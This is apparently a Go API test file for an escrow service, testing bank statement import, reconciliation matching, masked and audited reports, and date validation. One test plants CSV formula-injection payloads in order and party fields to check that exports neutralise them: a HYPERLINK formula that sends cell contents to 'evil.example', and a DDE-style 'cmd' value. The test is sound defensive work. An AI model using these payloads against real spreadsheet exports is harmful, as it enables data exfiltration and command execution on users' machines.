package api_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"

	"github.com/escrowd/escrowd/api"
	"github.com/escrowd/escrowd/escrow"
	"github.com/escrowd/escrowd/fx"
	"github.com/escrowd/escrowd/internal/tenants"
	"github.com/escrowd/escrowd/reconcile"
)

const rcFin = tenants.RoleFinance

func (e *env) rcAuditCount(route, resource string) int {
	e.t.Helper()
	var n int
	err := e.db.Pool.QueryRow(context.Background(), `SELECT count(*) FROM audit_log WHERE tenant_id = $1 AND route = $2 AND ($3 = '' OR resource_id = $3)`,
		e.tenantA, route, resource).Scan(&n)
	if err != nil {
		e.t.Fatal(err)
	}
	return n
}

// rcFundedEscrow funds an escrow of tenant A through the escrow service, so
// cash:psp:<cur> holds a posting with the payment reference.
func (e *env) rcFundedEscrow(amount, currency, paymentRef string) escrow.Escrow {
	e.t.Helper()
	ctx := context.Background()
	if _, err := e.deps.FX.ImportRates(ctx, e.tenantA, []fx.RateSet{{Base: "EUR", AsOf: e.clock.Now().Add(-time.Hour), Source: "test-" + paymentRef,
		Rates: map[string]decimal.Decimal{"USD": decimal.RequireFromString("1.08")}}}); err != nil {
		e.t.Fatal(err)
	}
	es, err := e.deps.Escrows.Create(ctx, e.tenantA, escrow.CreateRequest{OrderRef: "o-" + paymentRef, Amount: amount, Currency: currency,
		Buyer:  escrow.PartyInput{ID: "b-" + paymentRef, Name: "Ana Buyer", Country: "DE", Email: "ana@example.com"},
		Seller: escrow.PartyInput{ID: "s-1", Name: "Sam Seller", Country: "CN"}})
	if err != nil {
		e.t.Fatal(err)
	}
	if es, err = e.deps.Escrows.Fund(ctx, e.tenantA, es.ID, 0, escrow.FundRequest{Amount: amount, Currency: currency, PaymentRef: paymentRef}); err != nil {
		e.t.Fatal(err)
	}
	return es
}

func TestReconciliationStatementsAPI(t *testing.T) {
	e := newEnv(t)
	e.rcFundedEscrow("10.00", "EUR", "setup") // creates cash:psp:EUR
	sample, err := os.ReadFile("../testdata/real/camt053-sample-nl-2013.xml")
	if err != nil {
		t.Fatal(err)
	}
	path := "/v1/reconciliation/statements?account=cash:psp:EUR"
	first := e.must(201, req{method: "POST", path: path, role: rcFin, raw: sample, contentType: "application/xml", idemKey: "stmt-1"})
	m := first.json(t)
	bc := m["balance_check"].(map[string]any)
	if m["statement_id"] != "1234Test/1" || m["new_lines"] != 3.0 || m["reversals"] != 1.0 || bc["status"] != "mismatch" ||
		bc["opening_balance"] != "15568.27" || bc["booked_total"] != "57.01" || bc["expected_closing_balance"] != "15625.28" ||
		bc["closing_balance"] != "15121.12" || bc["difference"] != "-504.16" {
		t.Fatalf("import: %s", first.body)
	}
	replay := e.must(201, req{method: "POST", path: path, role: rcFin, raw: sample, contentType: "application/xml", idemKey: "stmt-1"})
	if replay.header.Get("Idempotent-Replayed") != "true" {
		t.Fatal("same key not replayed")
	}
	again := e.must(200, req{method: "POST", path: path, role: rcFin, raw: sample, contentType: "application/xml"})
	if m := again.json(t); m["new_lines"] != 0.0 || m["existing_lines"] != 3.0 || m["id"] != first.json(t)["id"] {
		t.Fatalf("re-import: %s", again.body)
	}

	bad := e.must(400, req{method: "POST", path: path, role: rcFin, raw: []byte(strings.Replace(string(sample), ">1405.31<", ">1.405,31<", 1)), contentType: "text/xml"})
	if p := bad.json(t); p["code"] != "invalid_statement" || !strings.HasPrefix(p["element"].(string), "Ntry[3]") {
		t.Fatalf("bad file: %s", bad.body)
	}
	csvBad := e.must(400, req{method: "POST", path: path, role: rcFin, raw: []byte("booking_date,amount\n2026-03-01,1\n2026-03-01,x\n"), contentType: "text/csv"})
	if p := csvBad.json(t); p["code"] != "invalid_statement" || p["line"] != 3.0 || p["element"] != "amount" {
		t.Fatalf("bad CSV: %s", csvBad.body)
	}
	// Over the camt.053 parser's limit, under the route's: too large, as
	// over the route's.
	for _, size := range []int{reconcile.MaxStatementBytes + 1, api.MaxFileBodyBytes + 1} {
		big := append(append([]byte{}, sample...), strings.Repeat(" ", size-len(sample))...)
		if got := e.must(413, req{method: "POST", path: path, role: rcFin, raw: big, contentType: "application/xml"}); got.code(t) != "body_too_large" {
			t.Fatalf("%d bytes: %s", size, got.body)
		}
	}
	if got := e.must(422, req{method: "POST", path: "/v1/reconciliation/statements?account=cash:nope", role: rcFin, raw: sample, contentType: "application/xml"}); got.code(t) != "unknown_account" {
		t.Fatalf("unknown account: %s", got.body)
	}
	if got := e.must(422, req{method: "POST", path: path + "&decimal_comma=maybe", role: rcFin, raw: []byte("x"), contentType: "text/csv"}); got.code(t) != "validation_failed" {
		t.Fatalf("bad mapping parameter: %s", got.body)
	}
	e.must(403, req{method: "POST", path: path, role: tenants.RoleMarketplace, raw: sample, contentType: "application/xml"})
	e.must(415, req{method: "POST", path: path, role: rcFin, raw: sample, contentType: "application/pdf"})

	// CSV with the mapping in query parameters.
	csv := "Datum;Betrag;Referenz\n02.03.2026;1.000,50;ESC-1\n"
	got := e.must(201, req{method: "POST", path: path + "&booking_date=Datum&amount=Betrag&reference=Referenz&decimal_comma=true&date_layout=02.01.2006",
		role: rcFin, raw: []byte(csv), contentType: "text/csv"})
	if m := got.json(t); m["format"] != "csv" || m["new_lines"] != 1.0 || m["balance_check"].(map[string]any)["status"] != "unchecked" {
		t.Fatalf("CSV import: %s", got.body)
	}
	// An export overlapping it, with skip_duplicates: its copy of the line
	// (file line 1) is reported, not stored.
	overlap := csv + "03.03.2026;7,00;ESC-2\n"
	got = e.must(201, req{method: "POST", path: path + "&booking_date=Datum&amount=Betrag&reference=Referenz&decimal_comma=true&date_layout=02.01.2006&skip_duplicates=true",
		role: rcFin, raw: []byte(overlap), contentType: "text/csv"})
	if m := got.json(t); m["new_lines"] != 1.0 || m["duplicate_lines"] != 1.0 || fmt.Sprint(m["duplicate_line_numbers"]) != "[1]" || m["line_count"] != 1.0 {
		t.Fatalf("overlapping CSV import: %s", got.body)
	}
	if p := e.must(422, req{method: "POST", path: path + "&skip_duplicates=maybe", role: rcFin, raw: []byte(overlap), contentType: "text/csv"}); !strings.Contains(string(p.body), "skip_duplicates") {
		t.Fatalf("bad skip_duplicates: %s", p.body)
	}
}

func TestReconciliationRunsAndMatchesAPI(t *testing.T) {
	e := newEnv(t)
	e.rcFundedEscrow("100.00", "EUR", "PAY-API-1")
	e.rcFundedEscrow("40.00", "EUR", "PAY-API-2")
	csv := "booking_date,amount,reference,entry_ref,counterparty\n2026-03-03,100.00,PAY-API-1,L1,Ana Buyer\n2026-03-03,39.00,,L2,Bob Payer\n"
	e.must(201, req{method: "POST", path: "/v1/reconciliation/statements?account=cash:psp:EUR", role: rcFin, raw: []byte(csv), contentType: "text/csv"})
	body := map[string]any{"account": "cash:psp:EUR", "from": "2026-03-01", "to": "2026-03-05", "dry_run": true}
	dry := e.must(200, req{method: "POST", path: "/v1/reconciliation/runs", role: rcFin, body: body})
	var run struct {
		ID                *string        `json:"id"`
		ByRule            map[string]int `json:"matches_by_rule"`
		UnmatchedLineN    int            `json:"unmatched_line_count"`
		UnmatchedPostingN int            `json:"unmatched_posting_count"`
		Matches           []struct {
			ID       string `json:"id"`
			Rule     string `json:"rule"`
			Postings []struct {
				ID string `json:"id"`
			} `json:"postings"`
		} `json:"matches"`
		UnmatchedLines []struct {
			ID           string `json:"id"`
			Counterparty string `json:"counterparty"`
			AgeDays      *int   `json:"age_days"`
		} `json:"unmatched_lines"`
		UnmatchedPostings []struct {
			ID      string `json:"id"`
			AgeDays *int   `json:"age_days"`
		} `json:"unmatched_postings"`
	}
	if err := json.Unmarshal(dry.body, &run); err != nil {
		t.Fatal(err)
	}
	if run.ID != nil || run.ByRule["reference"] != 1 || run.UnmatchedLineN != 1 || run.UnmatchedPostingN != 1 ||
		run.UnmatchedLines[0].Counterparty != "B*** P***" || run.UnmatchedLines[0].AgeDays == nil {
		t.Fatalf("dry run: %s", dry.body)
	}
	body["dry_run"], body["fee_tolerance"] = false, "1.00"
	stored := e.must(201, req{method: "POST", path: "/v1/reconciliation/runs", role: rcFin, body: body})
	run.Matches = nil
	if err := json.Unmarshal(stored.body, &run); err != nil {
		t.Fatal(err)
	}
	if run.ID == nil || len(run.Matches) != 2 || run.ByRule["fee_tolerance"] != 1 {
		t.Fatalf("run: %s", stored.body)
	}
	if got := e.must(422, req{method: "POST", path: "/v1/reconciliation/runs", role: rcFin, body: map[string]any{"account": "cash:psp:EUR", "from": "2026-03-05", "to": "2026-03-01"}}); got.code(t) != "validation_failed" {
		t.Fatalf("bad range: %s", got.body)
	}

	// Undo a match (a write without Idempotency-Key, audited), then match by hand.
	var fee struct {
		id, line, posting string
	}
	for _, m := range run.Matches {
		if m.Rule == "fee_tolerance" {
			fee.id, fee.posting = m.ID, m.Postings[0].ID
		}
	}
	del := e.must(200, req{method: "DELETE", path: "/v1/reconciliation/matches/" + fee.id, role: rcFin, idemKey: "-"})
	if del.json(t)["deleted_at"] == nil || e.rcAuditCount("/v1/reconciliation/matches/{id}", fee.id) != 1 {
		t.Fatalf("delete: %s", del.body)
	}
	if got := e.must(409, req{method: "DELETE", path: "/v1/reconciliation/matches/" + fee.id, role: rcFin, idemKey: "-"}); got.code(t) != "match_deleted" {
		t.Fatalf("second delete: %s", got.body)
	}
	e.must(404, req{method: "GET", path: "/v1/reconciliation/matches/" + fee.id, role: rcFin, tenant: e.tenantB})
	e.must(404, req{method: "DELETE", path: "/v1/reconciliation/matches/" + fee.id, role: rcFin, tenant: e.tenantB, idemKey: "-"})
	open := e.must(200, req{method: "POST", path: "/v1/reconciliation/runs", role: rcFin, body: map[string]any{"account": "cash:psp:EUR", "from": "2026-03-01", "to": "2026-03-05", "dry_run": true}})
	if err := json.Unmarshal(open.body, &run); err != nil || len(run.UnmatchedLines) != 1 {
		t.Fatalf("after delete: %s", open.body)
	}
	fee.line = run.UnmatchedLines[0].ID
	man := e.must(201, req{method: "POST", path: "/v1/reconciliation/matches", role: rcFin,
		body: map[string]any{"line_ids": []string{fee.line}, "posting_ids": []string{fee.posting}, "note": "bank fee 1.00"}})
	if m := man.json(t); m["rule"] != "manual" || m["difference"] != "-1.00" || m["run_id"] != nil {
		t.Fatalf("manual match: %s", man.body)
	}
	again := e.must(409, req{method: "POST", path: "/v1/reconciliation/matches", role: rcFin,
		body: map[string]any{"line_ids": []string{fee.line}, "posting_ids": []string{fee.posting}}})
	if p := again.json(t); p["code"] != "already_matched" || len(p["line_ids"].([]any)) != 1 {
		t.Fatalf("matched twice: %s", again.body)
	}
	if got := e.must(404, req{method: "POST", path: "/v1/reconciliation/matches", role: rcFin, tenant: e.tenantB,
		body: map[string]any{"line_ids": []string{fee.line}, "posting_ids": []string{fee.posting}}}); got.code(t) != "not_found" {
		t.Fatalf("other tenant's line: %s", got.body)
	}
}

func TestReportsAPI(t *testing.T) {
	e := newEnv(t)
	e.rcFundedEscrow("12000.00", "EUR", "BIG-1")
	q := "?from=2026-03-01&to=2026-03-03"

	set := e.must(200, req{method: "GET", path: "/v1/reports/settlement" + q, role: rcFin})
	var rep struct {
		Rows []struct {
			SellerName string `json:"seller_name"`
			Funded     string `json:"funded"`
		} `json:"rows"`
		Totals []struct {
			Currency    string `json:"currency"`
			ClosingHeld string `json:"closing_held"`
			Ties        bool   `json:"ties_to_ledger"`
		} `json:"totals"`
	}
	if err := json.Unmarshal(set.body, &rep); err != nil {
		t.Fatal(err)
	}
	if len(rep.Rows) != 1 || rep.Rows[0].SellerName != "S*** S***" || rep.Rows[0].Funded != "12000.00" || len(rep.Totals) != 1 ||
		!rep.Totals[0].Ties || rep.Totals[0].ClosingHeld != "12000.00" {
		t.Fatalf("settlement: %s", set.body)
	}
	csvAns := e.must(200, req{method: "GET", path: "/v1/reports/settlement" + q, role: rcFin, header: map[string]string{"Accept": "text/csv"}})
	if !strings.HasPrefix(csvAns.header.Get("Content-Type"), "text/csv") || !strings.HasPrefix(string(csvAns.body), "day,currency,seller_id,seller_name,opening_held") ||
		!strings.Contains(string(csvAns.body), "total,EUR,,,0.00,12000.00") {
		t.Fatalf("settlement CSV: %s", csvAns.body)
	}

	comp := e.must(200, req{method: "GET", path: "/v1/reports/compliance" + q, role: rcFin})
	c := comp.json(t)
	txns := c["transactions"].([]any)
	buyer := txns[0].(map[string]any)["buyer"].(map[string]any)
	if c["transaction_count"] != 1.0 || buyer["name"] != "A*** B***" || buyer["email"] != "a***@example.com" || c["threshold_usd"] != "10000.00" {
		t.Fatalf("compliance: %s", comp.body)
	}
	if e.rcAuditCount("/v1/reports/compliance", "unmasked") != 0 {
		t.Fatal("a masked read was audited")
	}
	full := e.must(200, req{method: "GET", path: "/v1/reports/compliance" + q + "&unmasked=true", role: rcFin})
	buyer = full.json(t)["transactions"].([]any)[0].(map[string]any)["buyer"].(map[string]any)
	if buyer["name"] != "Ana Buyer" || buyer["email"] != "ana@example.com" || e.rcAuditCount("/v1/reports/compliance", "unmasked") != 1 {
		t.Fatalf("unmasked compliance: %s", full.body)
	}
	if got := e.must(200, req{method: "GET", path: "/v1/reports/compliance" + q + "&threshold_usd=20000", role: rcFin}); got.json(t)["transaction_count"] != 0.0 {
		t.Fatalf("threshold 20000: %s", got.body)
	}
	e.must(200, req{method: "GET", path: "/v1/reports/settlement" + q + "&unmasked=true", role: tenants.RoleAdmin})
	if e.rcAuditCount("/v1/reports/settlement", "unmasked") != 1 {
		t.Fatal("unmasked settlement not audited")
	}

	liab := e.must(200, req{method: "GET", path: "/v1/reports/escrow-liability", role: rcFin})
	cur := liab.json(t)["currencies"].([]any)[0].(map[string]any)
	if cur["currency"] != "EUR" || cur["ledger_balance"] != "12000.00" || cur["escrow_held"] != "12000.00" || cur["ties"] != true {
		t.Fatalf("liability: %s", liab.body)
	}
	e.must(200, req{method: "GET", path: "/v1/reports/fx" + q, role: rcFin, header: map[string]string{"Accept": "text/csv"}})
	if got := e.must(422, req{method: "GET", path: "/v1/reports/fx?from=2026-03-05&to=2026-03-01", role: rcFin}); got.code(t) != "validation_failed" {
		t.Fatalf("bad period: %s", got.body)
	}
	e.must(403, req{method: "GET", path: "/v1/reports/settlement" + q, role: tenants.RoleMarketplace})
}

// TestReportCSVExportsNeutraliseFormulas: report CSV exports carry
// marketplace-supplied text (order_ref, buyer and seller ids, names,
// emails), masked or not; a cell that starts like a formula (= + - @, tab,
// CR) must reach the spreadsheet as text, while amounts stay numbers.
func TestReportCSVExportsNeutraliseFormulas(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	if _, err := e.deps.FX.ImportRates(ctx, e.tenantA, []fx.RateSet{{Base: "EUR", AsOf: e.clock.Now().Add(-time.Hour), Source: "t",
		Rates: map[string]decimal.Decimal{"USD": decimal.RequireFromString("1.08")}}}); err != nil {
		t.Fatal(err)
	}
	const (
		orderRef  = `=HYPERLINK("https://evil.example/?"&A1,"open")`
		buyerID   = "@SUM(1+1)*cmd|' /C calc'!A0"
		sellerID  = "+1+1"
		sellerNm  = `=HYPERLINK("https://evil.example","Sam")`
		buyerMail = "=1+1@example.com"
	)
	es, err := e.deps.Escrows.Create(ctx, e.tenantA, escrow.CreateRequest{OrderRef: orderRef, Amount: "12000.00", Currency: "EUR",
		Buyer:  escrow.PartyInput{ID: buyerID, Name: "Ana Buyer", Country: "DE", Email: buyerMail},
		Seller: escrow.PartyInput{ID: sellerID, Name: sellerNm, Country: "CN"}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := e.deps.Escrows.Fund(ctx, e.tenantA, es.ID, 0, escrow.FundRequest{Amount: "12000.00", Currency: "EUR", PaymentRef: "p1"}); err != nil {
		t.Fatal(err)
	}
	q := "?from=2026-03-01&to=2026-03-03"
	for _, c := range []struct {
		path string
		want map[string]string // column → the cell of the first data row
	}{
		{"/v1/reports/settlement" + q, map[string]string{"seller_id": "'" + sellerID, "seller_name": "'=***", "funded": "12000.00"}},
		{"/v1/reports/settlement" + q + "&unmasked=true", map[string]string{"seller_id": "'" + sellerID, "seller_name": "'" + sellerNm}},
		{"/v1/reports/compliance" + q, map[string]string{"order_ref": "'" + orderRef, "buyer_id": "'" + buyerID,
			"buyer_email": "'=***@example.com", "seller_id": "'" + sellerID, "seller_name": "'=***", "amount": "12000.00"}},
		{"/v1/reports/compliance" + q + "&unmasked=true", map[string]string{"order_ref": "'" + orderRef, "buyer_id": "'" + buyerID,
			"buyer_email": "'" + buyerMail, "seller_name": "'" + sellerNm}},
	} {
		r := e.must(200, req{method: "GET", path: c.path, role: rcFin, header: map[string]string{"Accept": "text/csv"}})
		recs, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", c.path, err)
		}
		if len(recs) < 2 {
			t.Fatalf("%s: no data rows: %s", c.path, r.body)
		}
		col := map[string]int{}
		for j, h := range recs[0] {
			col[h] = j
		}
		for name, want := range c.want {
			j, ok := col[name]
			if !ok {
				t.Fatalf("%s: no column %s", c.path, name)
			}
			if got := recs[1][j]; got != want {
				t.Errorf("%s: %s = %q, want %q", c.path, name, got, want)
			}
		}
		for i, rec := range recs[1:] {
			for j, cell := range rec {
				if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					continue
				}
				if _, numErr := decimal.NewFromString(cell); numErr != nil {
					t.Errorf("%s: row %d column %s = %q starts a formula", c.path, i+1, recs[0][j], cell)
				}
			}
		}
	}
}

// TestStatementImportImplausibleDateIs400: time.Parse takes year 0000 but
// PostgreSQL has no year 0; such a date (or any outside 1900..2999) in a
// camt.053 element or a CSV column is a bad file, 400 invalid_statement
// naming where it is, not an internal error.
func TestStatementImportImplausibleDateIs400(t *testing.T) {
	e := newEnv(t)
	e.rcFundedEscrow("10.00", "EUR", "setup") // opens cash:psp:EUR
	sample, err := os.ReadFile("../testdata/real/camt053-sample-nl-2013.xml")
	if err != nil {
		t.Fatal(err)
	}
	// camt dates every element el of the sample (a date in a Dt child, or
	// its text) in year 0000.
	camt := func(el string) string {
		re := regexp.MustCompile(`(<` + el + `>\s*(?:<Dt>)?)\d{4}-`)
		if !re.MatchString(string(sample)) {
			t.Fatalf("sample has no %s", el)
		}
		return re.ReplaceAllString(string(sample), "${1}0000-")
	}
	path := "/v1/reconciliation/statements?account=cash:psp:EUR"
	for _, c := range []struct{ name, body, contentType, where string }{
		{"camt BookgDt/Dt", camt("BookgDt"), "application/xml", "BookgDt/Dt"},
		{"camt ValDt/Dt", camt("ValDt"), "application/xml", "ValDt/Dt"},
		{"camt CreDtTm", camt("CreDtTm"), "application/xml", "Stmt/CreDtTm"},
		{"csv booking_date", "booking_date,amount\n0000-03-01,1.00\n", "text/csv", "booking_date"},
		{"csv value_date", "booking_date,value_date,amount\n2026-03-01,0000-01-01,1.00\n", "text/csv", "value_date"},
		{"csv booking_date year 3000", "booking_date,amount\n3000-03-01,1.00\n", "text/csv", "booking_date"},
	} {
		r := e.do(req{method: "POST", path: path, role: rcFin, raw: []byte(c.body), contentType: c.contentType})
		if r.status != 400 || r.code(t) != "invalid_statement" || !strings.Contains(string(r.body), c.where) {
			t.Errorf("%s: %d %s, want 400 invalid_statement naming %s", c.name, r.status, r.body, c.where)
		}
	}
}
